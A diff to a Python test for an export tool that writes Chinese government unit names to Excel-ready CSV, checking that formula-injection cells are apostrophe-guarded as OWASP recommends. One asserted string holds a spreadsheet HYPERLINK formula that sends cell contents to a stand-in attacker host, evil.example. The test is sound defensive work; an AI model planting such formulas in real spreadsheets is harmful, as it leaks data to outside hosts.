@@ -23,7 +23,7 @@ HARMLESS = ["市纪委", "a=b", "市财政（地税）局", " =1+1", "＝1+1"]
 
 
 def _units(labels: list[str]) -> pa.Table:
-    rows = [{"unit_id": f"u{i}", "name": label, "full_name": label, "name_en": "x", "category": "collective"}
+    rows = [{"unit_id": f"u{i}", "jurisdiction": "taizhou", "name": label, "full_name": label, "name_en": "x", "category": "collective"}
             for i, label in enumerate(labels)]
     return table_specs()["units"].to_arrow(rows)
 
@@ -37,7 +37,8 @@ def test_hostile_cells_are_guarded_in_excel_only(tmp_path):
     paths = write_table_files(tmp_path, "units", _units(labels))
     excel_text = paths["excel"].read_bytes().decode("utf-8-sig")
     excel = _excel_rows(excel_text)
-    names = [row[1] for row in excel[1:]]
+    column = excel[0].index("name")
+    names = [row[column] for row in excel[1:]]
     assert names == ["'" + label for label in HOSTILE] + HARMLESS
     # The guarded cell is quoted too, as OWASP asks: the raw line holds the quoted, prefixed text.
     assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""市财政局"")"' in excel_text
